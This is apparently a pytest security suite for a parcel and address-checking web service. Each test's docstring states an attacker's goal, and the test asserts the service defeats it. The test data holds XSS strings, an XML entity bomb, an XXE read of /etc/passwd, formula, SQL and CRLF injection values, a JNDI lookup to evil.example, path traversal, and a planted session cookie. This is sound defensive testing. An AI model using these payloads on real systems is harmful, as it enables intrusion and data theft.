"""What an attacker may try with files, parcels, zones and sessions; each docstring tells what the attacker hopes for."""

from __future__ import annotations

import io
import json
import zipfile

import pytest

from addrcheck.service.users import UserStore
from tests.service.conftest import SHOP
from tests.service.zones import OWN, PASSWORD, send
from tests.test_patterns import hangs

EVIL = "<script>alert(1)</script>\"'><img src=x onerror=alert(1)>"
ADDRESS = "杭州市西湖区文三路100号"
FORMULAS = ("=1+1", "+A1", "-1+1", "@SUM(1)", "\t=1", "＝1")
ODS = (
    '<?xml version="1.0"?>{doctype}<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0">'
    '<office:body><office:spreadsheet><table:table table:name="A">{rows}</table:table></office:spreadsheet></office:body></office:document-content>'
)
BILLION = (
    '<!DOCTYPE l [<!ENTITY a0 "lol">'
    + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    + "]>"
)
PASSWD = '<!DOCTYPE l [<!ENTITY a9 SYSTEM "file:///etc/passwd">]>'


def ods(*rows, doctype="", repeat=""):
    """Return a workbook; a cell that begins with < is markup."""
    made = "".join(
        f"<table:table-row {repeat if n else ''}>"
        + "".join(
            f'<table:table-cell office:value-type="string"><text:p>{cell}</text:p></table:table-cell>'
            for cell in row
        )
        + "</table:table-row>"
        for n, row in enumerate(rows)
    )
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("content.xml", ODS.format(doctype=doctype, rows=made))
    return data.getvalue()


def load(client, data, name="a.csv", **options):
    return client.post("/v1/manifests", data={"file": (io.BytesIO(data), name)}, **options)


def csv(*rows):
    return ("单号,地址\n" + "".join(",".join(row) + "\n" for row in rows)).encode()


HEADER, PARCEL = ("单号", "地址"), ("SF1234567890123", ADDRESS)
HEAVY = {
    "spaces by number": (ods(HEADER, ("SF1234567890123", ADDRESS + '<text:s text:c="1000000000"/>')), "a.ods"),
    "spaces of no number": (ods(HEADER, ("SF1234567890123", ADDRESS + '<text:s text:c="-9x"/>')), "a.ods"),
    "rows by number": (ods(HEADER, PARCEL, repeat='table:number-rows-repeated="1000000000"'), "a.ods"),
    "entities": (ods(HEADER, ("SF1234567890123", "&a9;"), doctype=BILLION), "a.ods"),
    "a file of the machine": (ods(HEADER, ("SF1234567890123", "&a9;"), doctype=PASSWD), "a.ods"),
    "columns": (("单号" + ",地址" * 60_000 + "\n" + ",".join(PARCEL) + "\n").encode(), "a.csv"),
    "one long cell": (csv(("SF1234567890123", '"' + "请放, 1/" * 30_000 + '"')), "a.csv"),
    "one long cell without a header": ((",".join(PARCEL) + "\n" + 'x,"' + "\n" * 400_000 + '"\n').encode(), "a.csv"),
}  # fmt: skip


@pytest.mark.parametrize(("data", "name"), HEAVY.values(), ids=HEAVY)
def test_no_manifest_makes_a_worker_think_for_long(client, data, name):
    """To fill the memory, read the machine's files, or halt a worker with one small manifest."""
    answers = []
    assert not hangs(lambda: answers.append(load(client, data, name)), 20)
    assert answers[0].status_code in (200, 422)
    assert b"root:" not in answers[0].data


def test_a_parcel_runs_nothing_wherever_it_is_shown(client):
    """To have a script in a parcel run in the browser of the station (stored XSS)."""
    item = {"waybill": "SF1234567890123", "address": ADDRESS + EVIL, "name": EVIL, "phone": EVIL[:60]}
    assert client.post("/v1/manifests", json={"items": [item]}).json["parcels"] == 1
    found = client.post("/v1/parcels", json={"waybill": "SF1234567890123"})
    assert found.json["name"] == EVIL
    for path, body in (("/v1/parcels", {"waybill": "SF1234567890123"}), ("/v1/labels", {"waybills": ["SF1234567890123"]})):  # fmt: skip
        answer = client.post(path, json=body)
        assert answer.mimetype == "application/json"
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert EVIL not in client.get("/station").text


@pytest.mark.parametrize("waybill", ['SF1234567890"; x="', "SF1234567890\r\nSet-Cookie: x=1", "SF123456-7890/../../x"])  # fmt: skip
def test_a_label_writes_no_header(client, waybill):
    """To write headers of the answer by the number of a parcel."""
    client.post("/v1/manifests", json={"items": [{"waybill": "SF1234567890", "address": ADDRESS}]})
    client.post("/v1/manifests", json={"items": [{"waybill": waybill, "address": ADDRESS}]})
    answer = client.post("/station/label.pdf", data={"waybill": waybill, "size": "76x130"}, headers=OWN)
    assert "Set-Cookie" not in answer.headers
    told = answer.headers.get("Content-Disposition", 'inline; filename="SF1.pdf"')
    assert told.startswith('inline; filename="SF')
    assert told.count('"') == 2


def test_a_label_leaves_nothing_of_its_recipient_in_the_log(client, capfd):
    """To have a name written into the log, by letters that no font has."""
    name = "\u0f40\u1200\u0130\U00010400"
    items = [{"waybill": "SF1234567890", "address": ADDRESS, "name": name}]
    client.post("/v1/manifests", json={"items": items})
    answer = client.post("/v1/labels.pdf", json={"waybills": ["SF1234567890"]})
    assert answer.status_code in (200, 503)  # 503: this machine has no font
    told = "".join(capfd.readouterr())
    assert not [letter for letter in name if letter in told]
    assert "missing" not in told


SCANS = ["\x00" * 50, "\u202e" + PARCEL[0], '{"a":' * 600 + "}" * 600, '{"mailNo":' + "9" * 3900 + "}", '{"mailNo":1e999}', "https://[::1/?no=1&addr=a", "BEGIN:VCARD\nADR:" + ";" * 3900, "MMM={" + "'k5':" * 700 + "}", "'; DROP TABLE parcels; --", "${jndi:ldap://evil.example}", "../../etc/passwd"]  # fmt: skip


@pytest.mark.parametrize("text", SCANS)
def test_anything_may_stand_in_a_code(client, text):
    """To crash the station, or what it keeps, by a code on a parcel."""
    scan = {"id": "abcdefgh", "text": text, "at": "2026-11-28T10:00:00Z"}
    answers = []
    assert not hangs(lambda: answers.append(client.post("/v1/scans", json={"scans": [scan]})), 5)
    assert answers[0].status_code == 200
    assert client.post("/v1/scans", json={"scans": [scan | {"id": "../../../x"}]}).status_code == 400
    assert client.get("/v1/manifests").status_code == 200


@pytest.mark.parametrize("half", [{"id": "x"}, {"text": "x"}, {"address": "x"}])
def test_half_a_character_in_a_scan_is_refused(client, half):
    """To crash what keeps a scan with a lone surrogate."""
    scan = {"id": "abcdefgh", "text": PARCEL[0], "at": "2026-11-28T10:00:00Z"}
    scan |= dict.fromkeys(half, "abcdefgh\ud83d")
    answer = client.post("/v1/scans", data=json.dumps({"scans": [scan]}), content_type="application/json")
    assert answer.status_code == 400


CLOSED = [("GET", "/v1/zones/versions"), ("POST", "/v1/zones/activate"), ("POST", "/v1/zones/rollback"), ("POST", "/v1/zones/cancel"), ("GET", "/v1/zones/file?number=1"), ("GET", "/metrics")]  # fmt: skip
STATION = [("POST", "/v1/manifests"), ("POST", "/v1/scans"), ("POST", "/v1/parcels"), ("POST", "/v1/labels"), ("POST", "/v1/labels.pdf"), ("GET", "/v1/jobs"), ("POST", "/v1/jobs")]  # fmt: skip


@pytest.mark.parametrize(("method", "path"), [*CLOSED, *STATION])
def test_a_shops_key_opens_nothing_of_the_station(app_with, keys, method, path):
    """To read parcels or turn zones with the key that stands in the shop's page."""
    token = keys.add("shop", frozenset({"check", "suggest"}), frozenset({SHOP}), publishable=True)[1]
    headers = {"Authorization": f"Bearer {token}", "Origin": SHOP}
    for required in (True, False):
        client = app_with(keys=required).test_client()
        assert client.open(path, method=method, headers=headers, json={}).status_code == 403


@pytest.mark.parametrize(("method", "path"), CLOSED)
def test_who_works_at_the_station_does_not_decide_about_zones(station, keys, method, path):
    """To become an administrator by the doors that the pages hide."""
    client = station.client("bob")
    assert client.open(path, method=method, json={}, headers=OWN).status_code in (
        {200} if path == "/metrics" else {401, 403}
    )
    for page in ("/zones", "/zones/1", "/zones/1/csv"):
        assert client.get(page).status_code == 403
    for door in ("upload", "cancel", "1/activate", "1/remove", "1/compare"):
        assert client.post(f"/zones/{door}", headers=OWN).status_code == 403


@pytest.mark.parametrize("told", ["", "Basic YTpi", "x"])
def test_a_header_in_name_only_is_no_key(station, told):
    """To pass the check for foreign pages with an Authorization that no key stands in."""
    client = station.client()
    headers = {"Origin": "https://evil.example", "Authorization": told}
    for path in ("/zones/1/activate", "/zones/cancel", "/bulk", "/logout"):
        assert client.post(path, headers=headers).status_code == 403
    assert client.post("/v1/zones/activate", json={"number": 1}, headers=headers).status_code in (401, 403)


def test_one_network_is_one_caller(app_with):
    """To guess passwords and spend rates without end, each time from another address of one's own network (IPv6)."""
    app = app_with(rate=60, burst=1, keys=True)
    client = app.test_client()

    def status(address, path="/v1/check?q=a", **options):
        return client.open(path, environ_overrides={"REMOTE_ADDR": address}, **options).status_code

    wrong = {"headers": {"Authorization": "Bearer x"}}
    assert [status(f"2001:db8:1:2::{n:x}", **wrong) for n in range(3)] == [401, 429, 429]
    assert status("2001:db8:1:3::1", **wrong) == 401
    UserStore(app.extensions["addrcheck.database"]).put("ann", "admin", PASSWORD)
    guess = {"method": "POST", "data": {"name": "ann", "password": "wrong"}, "headers": OWN}
    tried = [status(f"2001:db8:1:2:{n:x}::1", "/login", **guess) for n in range(12)]
    assert 429 in tried[10:]
    assert status("::ffff:10.0.0.1", "/login", **guess) == status("fe80::1%eth0", "/login", **guess) == 401


@pytest.mark.parametrize(
    "same",
    [
        ("203.0.113.7", "203.0.113.7:40000", "203.0.113.7:40001", "::ffff:203.0.113.7"),
        ("2001:db8:1:2::1", "[2001:db8:1:2::2]:40000", "[2001:db8:1:2::3]", "2001:db8:1:2::4%eth0"),
    ],
)
def test_one_address_is_one_caller_however_a_proxy_writes_it(app_with, same):
    client = app_with(rate=60, burst=2).test_client()
    told = [client.get("/v1/check?q=a", environ_overrides={"REMOTE_ADDR": address}).status_code for address in same]  # fmt: skip
    assert told == [200, 200, 429, 429]


def test_a_session_is_made_at_the_sign_in(station):
    """To give somebody a cookie and use it once he has signed in (session fixation)."""
    client = station.app.test_client()
    client.set_cookie("addrcheck", "eyJuYW1lIjoiYW5uIn0.planted.cookie")
    client.post("/login", data={"name": "ann", "password": PASSWORD}, headers=OWN)
    assert "planted" not in client.get_cookie("addrcheck").value
    thief = station.app.test_client()
    thief.set_cookie("addrcheck", "eyJuYW1lIjoiYW5uIn0.planted.cookie")
    assert thief.get("/zones").status_code == 401


@pytest.mark.parametrize(
    "rule", ["9" * 5000 + "-", "от " + "9" * 5000 + " и далее", "1" + " " * 500_000 + "x"]
)
def test_a_number_that_is_none_is_told_by_its_line(station, rule):
    """To break what looks zones over with a number that is too long to be one."""
    client = station.client()
    answer = send(client, f"zone,place,street,from\nA,杭州市/西湖区,文三路,{rule}\n".encode())
    assert answer.status_code == 303
    assert "zones.csv:2" in client.get(answer.location).text


def test_names_of_zones_run_nothing_and_are_no_formulas(station):
    """To have a zone's name run in the page of an administrator, or in the spreadsheet that it is opened with."""
    client = station.client()
    rows = "".join(f'"{name}",杭州市/西湖区,"{EVIL.replace(chr(34), chr(34) * 2)}"\n' for name in (EVIL.replace('"', '""'), *FORMULAS))  # fmt: skip
    answer = send(
        client,
        f"# version: {EVIL}\nzone,place,owner\n{rows}".encode(),
        "<img src=x onerror=alert(1)>\u202e.csv",
        note=EVIL,
    )
    assert answer.status_code == 303
    for page in (client.get(answer.location), client.get("/zones")):
        assert "<script>alert" not in page.text
        assert "<img src=x" not in page.text
        assert "\u202e" not in page.text
    file = client.get(f"/zones/{answer.location.split('/')[2].partition('?')[0]}/csv")
    assert file.status_code in (200, 409)
    assert not [line for line in file.text.splitlines() if line.startswith(("=", "+", "@", '"=', '"+', '"@'))]
